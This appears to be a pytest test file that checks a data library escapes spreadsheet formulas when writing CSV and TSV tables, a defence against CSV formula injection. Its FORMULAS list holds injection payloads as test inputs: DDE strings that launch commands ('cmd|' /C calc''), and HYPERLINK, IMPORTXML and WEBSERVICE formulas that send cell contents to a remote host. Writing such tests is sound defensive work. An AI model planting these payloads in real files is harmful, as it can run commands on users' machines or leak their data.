"""CSV files contain no text that a spreadsheet executes, and Varied reads the original text."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from quick_training import train_quickly
from typer.testing import CliRunner

from varied.cli import app
from varied.data.tables import TableDialect, raw_csv, read_table, write_table
from varied.data.tables.formulas import escape_formula, unescape_formula
from varied.data.tables.number_styles import NumberStyle
from varied.runs.classification import Classes
from varied.runs.encoding import Encoding

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "=WEBSERVICE(A1)",
    "=DDE(A1)",
    "+cmd|' /C calc'!A0",
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "-A1",
    "-ABC1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@eaDir/a.png",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    " =1+1",
    "  @SUM(1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dA1",
    "\uff20SUM(1)",
    '="a";=1',
    "=é",
    "-x\ny",
    "+5 apples",
    "-5:30",
    "'=1+1",
    "''@x",
]
HARMLESS = [
    *("", "-", "--", "---", "+", "=", "@", "=-", "- -", "\t", " "),
    *("-5", "+5", "-5.25", "-.5", "-5.", "-1,5", "-1,234.50", "-1.234,50", "-1'000", "-007"),
    *("-1e-07", "+1E5", "-inf", "-Infinity", "-nan", "-5%", "-$5.00", "$-5", "-5 EUR", "- 5"),
    *("-1.234,50 EUR", "-USD 5", " -5", "-5 ", "'-5"),
    *("a=1", "1+1", "2024-01-05", "(-5, 10]", "C=C", "[C@H]", "#N/A", "'quoted'", "it's -x"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_after_an_apostrophe(text):
    assert is_escaped(text)
    assert escape_formula(text) == f"'{text}"
    assert unescape_formula(f"'{text}") == text
    with raw_csv():
        assert escape_formula(text) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_signs_and_other_text_are_unchanged(text):
    assert not is_escaped(text)
    assert escape_formula(text) == unescape_formula(text) == text


@given(st.text(st.sampled_from("'=+-@＝\t\r\n a1.,%"), max_size=8))
def test_every_text_is_restored(text):
    assert unescape_formula(escape_formula(text)) == text
    assert not is_escaped(text) or escape_formula(text)[0] == "'"


def cells(path, delimiter=","):
    return list(csv.reader(path.read_text("utf-8").splitlines(), delimiter=delimiter))


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".csv.gz"])
def test_a_table_of_formulas_is_restored(tmp_path, suffix):
    texts = [text for text in FORMULAS if text.strip() == text]
    names = {"x": "=1+1", "y": "@y", "z": "-5"}
    frame = pd.DataFrame({"x": texts, "y": "a", "z": np.arange(len(texts)) - 2.5})
    path = tmp_path / f"t{suffix}"
    write_table(frame.rename(columns=names), path, TableDialect(delimiter=",\t"["tsv" in suffix]))
    again, _, _ = read_table(path)
    pd.testing.assert_frame_equal(again, frame.rename(columns=names), check_dtype=False)


def test_numbers_are_never_escaped(tmp_path):
    columns = {"float": [-1.5, np.nan], "integer": [-2, -3], "text": ["-5", "-x"]}
    frame = pd.DataFrame(columns | {"money": [-5, -1234], "date": pd.to_datetime(["2024"] * 2)})
    style = {"money": NumberStyle(prefix="$", thousands=",")}
    path = write_table(frame, tmp_path / "t.csv", TableDialect(styles=style))
    assert cells(path)[1:] == [
        ["-1.5", "-2", "-5", "-$5", "2024-01-01"],
        ["", "-3", "'-x", "-$1,234", "2024-01-01"],
    ]


def test_formulas_of_a_dialect_are_escaped(tmp_path):
    frame = pd.DataFrame({"x": [None, "a"], "y": [-1.0, 2.0]})
    style = NumberStyle(suffix="+cmd|' /C calc'!A0")
    dialect = TableDialect(missing={"x": "=1"}, styles={"y": style})
    path = write_table(frame, tmp_path / "t.csv", dialect)
    assert [row[0] for row in cells(path)] == ["x", "'=1", "a"]
    assert cells(path)[1][1][0] == "'"


def test_other_formats_contain_the_original_text(tmp_path):
    frame = pd.DataFrame({"=x": ["=1+1", "'=1"]})
    path = write_table(frame, tmp_path / "t.parquet", TableDialect())
    pd.testing.assert_frame_equal(pd.read_parquet(path), frame)


def test_names_of_examples_and_classes_are_escaped(tmp_path):
    classes = Classes(torch.tensor([[0.25, 0.75]]), ("=a", "=b"), ("@x.png",))
    rows = cells(classes.save(tmp_path / "classes.csv"))
    assert rows == [["name", "class", "p(=a)", "p(=b)"], ["'@x.png", "'=b", "0.25", "0.75"]]
    codes = Encoding(torch.tensor([[-0.1, 1e-6]]), torch.ones(1, 2), None, ("+1.png",))
    path = codes.save(tmp_path / "codes.csv")
    assert path.read_text() == codes.frame.to_csv(index=False, lineterminator="\n")
    with np.load(codes.save(tmp_path / "codes.npz")) as file:
        assert file["names"].tolist() == ["+1.png"]


LEVELS = ["=1+1", "+1-555-0100", "--", "'=x"]


def is_escaped(text):
    return escape_formula(text) != text


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    random = np.random.default_rng(0)
    frame = pd.DataFrame({"=x": random.choice(LEVELS, 240), "y": random.normal(size=240).round(2)})
    with raw_csv():
        write_table(frame, folder / "rows.csv", TableDialect())
    return train_quickly(str(folder / "rows.csv"), steps=30, latent=2, out=folder / "run")


def test_a_run_writes_and_reads_formulas(run, tmp_path):
    path = run.sample(60).save(tmp_path / "samples.csv")
    header, *rows = cells(path)
    assert header == ["'=x", "y"]
    assert {row[0] for row in rows} == {"'=1+1", "'+1-555-0100", "--", "'=x"}
    report = run.detect(str(path), samples=2)
    assert not report.invalid
    header, *rows = cells(report.save(tmp_path / "detected.csv"))
    assert header[-2:] == ["'=x", "y"]
    assert not any(cell[:1] != "'" and is_escaped(cell) for row in rows for cell in row)


@pytest.mark.parametrize("command", [["sample"], ["detect", "--samples", "2"], ["reconstruct"]])
@pytest.mark.parametrize("is_raw", [False, True])
def test_the_option_raw_csv(run, tmp_path, command, is_raw):
    name, *options = command
    path = tmp_path / "out.csv"
    words = [name, str(run.folder), *options, "--out", str(path), *["--raw-csv"] * is_raw]
    result = CliRunner().invoke(app, words)
    assert result.exit_code == 0, result.output
    assert ("=x" if is_raw else "'=x") in cells(path)[0]
    assert any("=1+1" in row for row in cells(path)) == is_raw
